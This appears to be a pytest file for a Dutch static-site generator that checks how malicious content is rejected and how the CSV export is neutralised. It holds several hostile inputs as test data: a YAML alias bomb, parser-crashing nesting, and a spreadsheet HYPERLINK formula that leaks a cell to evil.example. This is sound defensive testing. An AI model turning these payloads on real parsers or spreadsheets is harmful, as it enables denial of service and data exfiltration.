"""Hostile pull requests, input side (issue 19, items 3, 4, 6, 8 and 9): whatever a file holds or is, `check`
answers with coded messages (exit 1, exact lines, no traceback, content byte-identical), quickly, and the CSV
export never hands a spreadsheet a formula.

The cases are mutations of the sample tree, like broken_cases.py; FIFOs, sockets and links are made for real.
"""
from __future__ import annotations

import csv
import ctypes
import io
import json
import os
import socket
import time
import tracemalloc
from pathlib import Path

import pytest

from generator.pages.export import export, neutralise
from generator.content.load import RefusedYAML, parse_yaml
from generator.content.model import ContentError
from generator.pages.generate import load_catalog
from generator.pages.render import dutch_date

from broken_cases import E25, P1, P2, W1, both, replace, write
from conftest import SAMPLE_PASSED, assert_reported, run_cli, snapshot

# Nine aliases of nine, eight levels: 9^9 (387 million) strings once expanded, in 414 bytes.
ALIAS_BOMB = "\n".join(
    ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    + [f"{level}: &{level} [" + ", ".join([f"*{previous}"] * 9) + "]" for previous, level in zip("abcdefgh", "bcdefghi")]
) + "\n"
# A list nested 1,000 deep was a RecursionError in the loader; at 100,000 (200 KB) libyaml's composer crashes the
# process: the depth is refused before anything is composed.
DEEP = "[" * 1000 + "]" * 1000
DEEPER = "[" * 100_000 + "]" * 100_000


def make(rel: str, create):
    """A mutation that makes something at `rel` with `create(path)`: a folder, a FIFO, a socket, a link."""
    def mutate(content: Path) -> None:
        path = content / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        create(path)
    return mutate


def bind_socket(path: Path) -> None:
    """A Unix socket file at `path` (bound through a relative name: socket paths are limited to 108 bytes)."""
    here = os.getcwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as server:
            server.bind(path.name)
    finally:
        os.chdir(here)


def write_bytes_name(folder: str, name: bytes, text: str):
    """A file whose name is not UTF-8 (git stores such names as they are)."""
    def mutate(content: Path) -> None:
        with open(os.fsencode(content / folder) + b"/" + name, "wb") as handle:
            handle.write(text.encode("utf-8"))
    return mutate


VALID = "---\nnummer: 5\ntitel: Vijf\nthema: bewustwording\nideeen: []\n---\n"

CASES = {
    # Item 3: denial of service.
    "alias-bomb": replace(P1, "---\n", "---\n" + ALIAS_BOMB),
    "alias": replace(P1, "samenvatting: Buurten oefenen samen een stroomuitval", "samenvatting: *titel"),
    "yaml-tag": replace(P1, "titel: Oefen de wijk", "titel: !!str Oefen de wijk"),
    "merge-key": replace(P1, "groep: 2", "<<: {groep: 2}"),
    "nested-1000-deep": replace(P1, "ideeen: [1, 2]", f"ideeen: {DEEP}"),
    "nested-100000-deep": replace(P1, "ideeen: [1, 2]", f"ideeen: {DEEPER}"),
    "nested-11-deep-block": replace(P1, "ideeen: [1, 2]", "ideeen:\n" + "".join(f"{'  ' * i}- \n" for i in range(1, 11))
                                    + "  " * 11 + "- 1"),
    "folder-named-md": make("proposals/2025/099-map.md", Path.mkdir),
    "fifo-named-md": make("proposals/2025/005-pijp.md", os.mkfifo),
    "socket-named-md": make("proposals/2025/006-socket.md", bind_socket),
    "link-to-folder": make("proposals/2027", lambda path: path.symlink_to("2025", target_is_directory=True)),
    "link-to-nothing": make("proposals/2025/007-weg.md", lambda path: path.symlink_to("bestaat-niet.md")),
    "link-loop": make("proposals/2025/008-rond.md", lambda path: path.symlink_to("008-rond.md")),
    # Item 4: what used to be a traceback.
    "float-idea-reference": replace(P1, "ideeen: [1, 2]", "ideeen: [1.0]"),
    "impossible-date": replace(E25, "datum: 2025-01-17", "datum: 2025-13-45"),
    "key-is-a-number": replace(P1, "groep: 2", "groep: 2\n1: een"),
    "key-is-empty": replace(P1, "groep: 2", "groep: 2\nnull: niets"),
    # Item 6: wrong values accepted.
    "month-zero": replace(E25, "datum: 2025-01-17", "datum: 2025-00-17"),
    "february-30": replace(E25, "datum: 2025-01-17", "datum: 2025-02-30"),
    "float-number": replace(P1, "nummer: 1", "nummer: 1.0"),
    "boolean-group": replace(P1, "groep: 2", "groep: true"),
    "date-trailing-newline": replace(E25, "datum: 2025-01-17", 'datum: "2025-01-17\\n"'),
    "slug-trailing-newline": replace(E25, "slug: bewustwording", 'slug: "bewustwording\\n"'),
    "theme-trailing-newline": replace(P1, "thema: bewustwording", 'thema: "bewustwording\\n"'),
    "reference-trailing-newline": replace(W1, '"2025/1"', '"2025/1\\n"'),
    "nul-escaped-in-title": replace(P1, "titel: Oefen de wijk", 'titel: "Oefen\\0 de wijk"'),
    "nul-in-body": replace(P1, "Burgers weten wat ze moeten doen.", "Burgers\0 weten wat ze moeten doen."),
    "escape-in-key": replace(P1, "groep: 2", 'groep: 2\n"\\e[31mrood": x'),
    "extension-upper-case": write("proposals/2025/053-x.MD", VALID),
    "extension-markdown": write("proposals/2025/054-x.markdown", VALID),
    "extension-txt": write("proposals/2025/notities.txt", "Aantekeningen.\n"),
    "parties-file-elsewhere": write("proposals/partijen.yml", "[]\n"),
    "name-not-utf8": write_bytes_name("proposals/2025", b"005-\xff.md", VALID),
    "name-with-line-break": write("proposals/2025/005-x.md\n", VALID),
    # Item 8: structure injection through front matter.
    "newline-in-title": replace(P1, "titel: Oefen de wijk", 'titel: "Oefen de wijk\\n## Eerste stap"'),
    "folded-title": replace(P1, "titel: Oefen de wijk", "titel: >\n  Oefen de wijk"),
    "blank-lines-in-discrepancy": replace(E25, "  - De bron noemt 3 en 2 voorstellen.",
                                          "  - |\n    De bron.\n\n    # Kop\n\n    ![x](https://evil.example/x.png)"),
    "newline-in-leader-name": replace(W1, "  - naam: Ada Voorbeeld", '  - naam: "Ada\\n- Voorbeeld"'),
}

EXPECTED = {
    'alias': [
        "content/proposals/2025/001-oefen-de-wijk.md:4: '*titel' is een YAML-alias (een verwijzing naar een waarde elders), en die mag niet in de gegevens: schrijf de waarde hier helemaal uit (begint een tekst met '*', zet hem dan tussen aanhalingstekens) [yaml-feature]",
    ],
    'alias-bomb': [
        "content/proposals/2025/001-oefen-de-wijk.md:2: '&a' is een YAML-anker (een naam voor een waarde), en dat mag niet in de gegevens: haal het weg (begint een tekst met '&', zet hem dan tussen aanhalingstekens) [yaml-feature]",
    ],
    'blank-lines-in-discrepancy': [
        "content/editions/2025.md:7: de waarde van 'afwijkingen[0]' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
        "content/editions/2025.md:12: een afbeelding mag niet in de tekst: de browser van elke lezer zou haar ophalen, waar het adres ook naar wijst; haal de afbeelding weg, of maak er een link van: [tekst](https://…) [image]",
    ],
    'boolean-group': [
        "content/proposals/2025/001-oefen-de-wijk.md:6: 'groep' is een ja/nee-waarde; hier hoort een heel getal van 1 of meer, bijv. 'groep: 2' [wrong-type]",
    ],
    'date-trailing-newline': [
        "content/editions/2025.md:3: de waarde van 'datum' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'escape-in-key': [
        "content/proposals/2025/001-oefen-de-wijk.md:7: de sleutel '\\x1b[31mrood' bevat het onzichtbare stuurteken U+001B, dat niet in de inhoud mag staan: haal het weg (ziet u het niet, typ de tekst eromheen dan opnieuw) [control-character]",
    ],
    'extension-markdown': [
        "content/proposals/2025/054-x.markdown:1: de naam eindigt op '.markdown', maar een bestand van de inhoud eindigt op '.md' (met kleine letters): hernoem het bestand naar 054-x.md [unknown-file]",
    ],
    'extension-txt': [
        "content/proposals/2025/notities.txt:1: dit bestand hoort niet bij de inhoud: in content/ staan alleen Markdown-bestanden die op '.md' eindigen (en partijen.yml); zet het buiten content/, of haal het weg [unknown-file]",
    ],
    'extension-upper-case': [
        "content/proposals/2025/053-x.MD:1: de naam eindigt op '.MD', maar een bestand van de inhoud eindigt op '.md' (met kleine letters): hernoem het bestand naar 053-x.md [unknown-file]",
    ],
    'february-30': [
        "content/editions/2025.md:3: 'datum' is '2025-02-30', een datum die niet bestaat: schrijf een datum die bestaat, als jaar-maand-dag, bijv. 'datum: 2025-01-17' [wrong-type]",
    ],
    'fifo-named-md': [
        "content/proposals/2025/005-pijp.md:1: dit is een FIFO (een 'named pipe'), geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]",
    ],
    'float-idea-reference': [
        "content/proposals/2025/001-oefen-de-wijk.md:8: 'ideeen[0]' is 1.0; hier hoort een nummer (bijv. 14) of 'jaar/nummer' (bijv. '2025/14') [wrong-type]",
    ],
    'float-number': [
        "content/proposals/2025/001-oefen-de-wijk.md:2: 'nummer' is 1.0; hier hoort een heel getal van 1 of meer, bijv. 'nummer: 1' [wrong-type]",
    ],
    'folded-title': [
        "content/proposals/2025/001-oefen-de-wijk.md:3: de waarde van 'titel' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'folder-named-md': [
        'content/proposals/2025/099-map.md:1: dit is een map, geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]',
    ],
    'impossible-date': [
        "content/editions/2025.md:3: 'datum' is '2025-13-45', een datum die niet bestaat: schrijf een datum die bestaat, als jaar-maand-dag, bijv. 'datum: 2025-01-17' [wrong-type]",
    ],
    'key-is-a-number': [
        "content/proposals/2025/001-oefen-de-wijk.md:7: de sleutel '1' is geen woord (YAML leest hem als een getal): schrijf hier de bedoelde sleutel, een woord zoals 'titel' [wrong-type]",
    ],
    'key-is-empty': [
        "content/proposals/2025/001-oefen-de-wijk.md:7: de sleutel 'null' is geen woord (YAML leest hem als een lege waarde): schrijf hier de bedoelde sleutel, een woord zoals 'titel' [wrong-type]",
    ],
    'link-loop': [
        'content/proposals/2025/008-rond.md:1: dit is een koppeling (symlink) naar iets dat niet bestaat, geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]',
    ],
    'link-to-folder': [
        'content/proposals/2027:1: dit is een koppeling (symlink) naar een map, geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]',
    ],
    'link-to-nothing': [
        'content/proposals/2025/007-weg.md:1: dit is een koppeling (symlink) naar iets dat niet bestaat, geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]',
    ],
    'merge-key': [
        "content/proposals/2025/001-oefen-de-wijk.md:6: '<<' voegt in YAML de sleutels van een andere groep in, en dat mag niet in de gegevens: schrijf de sleutels hier zelf uit (de tekst '<<' zet u tussen aanhalingstekens) [yaml-feature]",
    ],
    'month-zero': [
        "content/editions/2025.md:3: 'datum' is '2025-00-17', een datum die niet bestaat: schrijf een datum die bestaat, als jaar-maand-dag, bijv. 'datum: 2025-01-17' [wrong-type]",
    ],
    'name-not-utf8': [
        "content/proposals/2025/005-\\xff.md:1: de naam van het bestand moet de vorm '<nummer>-<naam>.md' hebben, met in de naam alleen kleine letters, cijfers en streepjes: hernoem het bestand, bijv. naar 001-het-spel-gaat-beginnen.md [bad-file-name]",
    ],
    'name-with-line-break': [
        "content/proposals/2025/005-x.md\\n:1: dit bestand hoort niet bij de inhoud: in content/ staan alleen Markdown-bestanden die op '.md' eindigen (en partijen.yml); zet het buiten content/, of haal het weg [unknown-file]",
    ],
    'nested-1000-deep': [
        'content/proposals/2025/001-oefen-de-wijk.md:8: hier zitten lijsten en sleutels meer dan 10 niveaus diep in elkaar; de inhoud heeft er hooguit 5 nodig: haal de extra haken of het extra inspringen weg [too-deep]',
    ],
    'nested-100000-deep': [
        'content/proposals/2025/001-oefen-de-wijk.md:8: hier zitten lijsten en sleutels meer dan 10 niveaus diep in elkaar; de inhoud heeft er hooguit 5 nodig: haal de extra haken of het extra inspringen weg [too-deep]',
    ],
    'nested-11-deep-block': [
        'content/proposals/2025/001-oefen-de-wijk.md:18: hier zitten lijsten en sleutels meer dan 10 niveaus diep in elkaar; de inhoud heeft er hooguit 5 nodig: haal de extra haken of het extra inspringen weg [too-deep]',
    ],
    'newline-in-leader-name': [
        "content/workshops/2026/001-burgerreserve.md:5: de waarde van 'leiders[0].naam' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'newline-in-title': [
        "content/proposals/2025/001-oefen-de-wijk.md:3: de waarde van 'titel' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'nul-escaped-in-title': [
        "content/proposals/2025/001-oefen-de-wijk.md:3: de waarde van 'titel' bevat het onzichtbare stuurteken U+0000, dat niet in de inhoud mag staan: haal het weg (ziet u het niet, typ de tekst eromheen dan opnieuw) [control-character]",
    ],
    'nul-in-body': [
        'content/proposals/2025/001-oefen-de-wijk.md:13: deze regel bevat het onzichtbare stuurteken U+0000, dat niet in de inhoud mag staan: haal het weg (ziet u het niet, typ de tekst eromheen dan opnieuw) [control-character]',
    ],
    'parties-file-elsewhere': [
        "content/proposals/partijen.yml:1: dit bestand hoort niet bij de inhoud: in content/ staan alleen Markdown-bestanden die op '.md' eindigen (en partijen.yml); zet het buiten content/, of haal het weg [unknown-file]",
    ],
    'reference-trailing-newline': [
        "content/workshops/2026/001-burgerreserve.md:9: de waarde van 'verwante_ideeen[0]' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'slug-trailing-newline': [
        "content/editions/2025.md:9: de waarde van 'themas[0].slug' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'socket-named-md': [
        'content/proposals/2025/006-socket.md:1: dit is een socket, geen gewoon bestand; in content/ staan alleen gewone bestanden en mappen: zet hier het echte bestand of de echte map neer, of haal dit weg [not-a-file]',
    ],
    'theme-trailing-newline': [
        "content/proposals/2025/001-oefen-de-wijk.md:5: de waarde van 'thema' loopt over meer dan één regel: schrijf hem op één regel (zonder '|' of '>' na de dubbele punt) [multi-line]",
    ],
    'yaml-tag': [
        "content/proposals/2025/001-oefen-de-wijk.md:3: '!!str' is een YAML-tag, en die mag niet in de gegevens: haal hem weg (begint een tekst met '!', zet hem dan tussen aanhalingstekens) [yaml-feature]",
    ],
}

# Accepted, not errors: the register of parties is the one non-Markdown file content/ may hold.
ACCEPTED = {
    "text-starting-with-star-quoted": replace(P1, "titel: Oefen de wijk", 'titel: "*Oefen* & de wijk!"'),
    # An editor's swap file, lock (a link to nothing) and backup while `make serve` runs: nothing reads them.
    "editor-temporary-files": both(write("proposals/2025/.001-oefen-de-wijk.md.swp", b"\0\1"),
                                   make("proposals/2025/.#001-oefen-de-wijk.md", lambda path: path.symlink_to("ik@pc.1")),
                                   write("proposals/2025/001-oefen-de-wijk.md~", "---\nkapot\n")),
}


def test_every_case_has_an_expectation():
    assert sorted(EXPECTED) == sorted(CASES)


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_content_is_reported_exactly(name, content):
    CASES[name](content)
    assert_reported(content, EXPECTED[name], timeout=60)


@pytest.mark.parametrize("name", sorted(ACCEPTED))
def test_accepted_variants_pass(name, content):
    ACCEPTED[name](content)
    before = snapshot(content)
    result = run_cli("check", cwd=content.parent, timeout=60)
    assert (result.returncode, result.stdout) == (0, SAMPLE_PASSED + "\n")
    assert snapshot(content) == before


@pytest.mark.parametrize("name", ["alias-bomb", "fifo-named-md", "impossible-date", "float-idea-reference",
                                  "newline-in-title", "nul-in-body"])
def test_hostile_content_fails_the_build_and_keeps_the_previous_docs(name, content):
    out = content.parent / "docs"
    assert run_cli("build", "--out", str(out), cwd=content.parent).returncode == 0
    previous = snapshot(out)
    CASES[name](content)
    result = run_cli("build", "--out", str(out), cwd=content.parent, timeout=60)
    assert result.returncode == 1
    assert result.stdout.splitlines() == EXPECTED[name]
    assert "Traceback" not in result.stdout + result.stderr
    assert snapshot(out) == previous


def test_alias_bomb_is_refused_in_under_a_second_and_a_few_megabytes(content):
    """Before: minutes and more than 10 GB (the walkers expanded every alias). Now refused at its first anchor."""
    CASES["alias-bomb"](content)
    start = time.perf_counter()
    with pytest.raises(ContentError) as refused:
        load_catalog(content)
    seconds = time.perf_counter() - start
    tracemalloc.start()
    with pytest.raises(ContentError):
        load_catalog(content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    print(f"alias bomb refused in {seconds * 1000:.1f} ms, peak {peak / 2**20:.2f} MiB traced")
    assert [p.code for p in refused.value.problems] == ["yaml-feature"]
    assert seconds < 1.0
    assert peak < 16 * 2**20


def test_parse_yaml_refuses_aliases_for_every_content_file():
    """`parse_yaml` is what any YAML under content/ goes through (the register of parties too)."""
    with pytest.raises(RefusedYAML) as refused:
        parse_yaml("- &a [x, x]\n- *a\n")
    assert (refused.value.code, refused.value.line) == ("yaml-feature", 1)
    with pytest.raises(RefusedYAML) as refused:
        parse_yaml("- naam: x\n  leden: *a\n")
    assert (refused.value.code, refused.value.line) == ("yaml-feature", 2)
    assert parse_yaml("- naam: Gemeente\n")[1] == [{"naam": "Gemeente"}]


def _without_file_capabilities() -> None:
    """In the child, before exec: drop CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH from the bounding set, so that
    root, too, gets 'Permission denied' on a file with mode 000 (the test suite runs as root)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for capability in (1, 2):  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
        if libc.prctl(24, capability, 0, 0, 0) != 0:  # PR_CAPBSET_DROP
            raise OSError(ctypes.get_errno(), "prctl(PR_CAPBSET_DROP)")


NOT_PERMITTED = ("dit bestand of deze map mag niet gelezen worden (de rechten staan het niet toe): zet de rechten zo "
                 "dat iedereen het mag lezen, of haal het weg [unreadable]")
UNREADABLE = {
    P2: [f"content/proposals/2025/002-noodpakket.md:1: {NOT_PERMITTED}"],
    "workshops/2026": [f"content/workshops/2026:1: {NOT_PERMITTED}"],
}


@pytest.mark.parametrize("rel", sorted(UNREADABLE))
def test_unreadable_file_or_folder_is_reported(content, rel):
    path = content / rel
    path.chmod(0)
    try:
        preexec = _without_file_capabilities if os.geteuid() == 0 else None
        assert_reported(content, UNREADABLE[rel], timeout=60, preexec_fn=preexec)
    finally:
        path.chmod(0o755 if path.is_dir() else 0o644)


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_cells_never_start_a_formula_and_the_json_keeps_the_text(content, start):
    """OWASP's rule for CSV injection: a cell starting with = + - @ (tab, CR) gets a leading single quote."""
    title = start + FORMULA[1:]
    replace(P1, "titel: Oefen de wijk", f"titel: {json.dumps(title)}")(content)
    files = export(load_catalog(content))
    row = next(csv.DictReader(io.StringIO(files["data/proposals.csv"])))
    assert row["title"] == "'" + title
    assert row["Waar uit zich het effect"] == "'- Rust in de wijk\n'- Minder paniek"  # a line break may split too
    assert row["number"] == "1" and row["Beoogd effect"] == "Burgers weten wat ze moeten doen."
    assert json.loads(files["data/proposals.json"])[0]["title"] == title


def test_csv_neutralises_tab_and_carriage_return_too():
    """The check refuses both in content; the export does not count on that."""
    assert [neutralise(x) for x in ("\t=1+1", "\r=1+1", "a=1", "", 3, None)] == ["'\t'=1+1", "'\r'=1+1", "a=1", "", 3,
                                                                                None]


def test_dutch_date_reads_a_calendar_date():
    assert dutch_date("2025-01-17") == "17 januari 2025"
    assert dutch_date("2024-02-29") == "29 februari 2024"
    for impossible in ("2025-00-17", "2025-02-30", "2025-13-45"):
        with pytest.raises(ValueError):
            dutch_date(impossible)
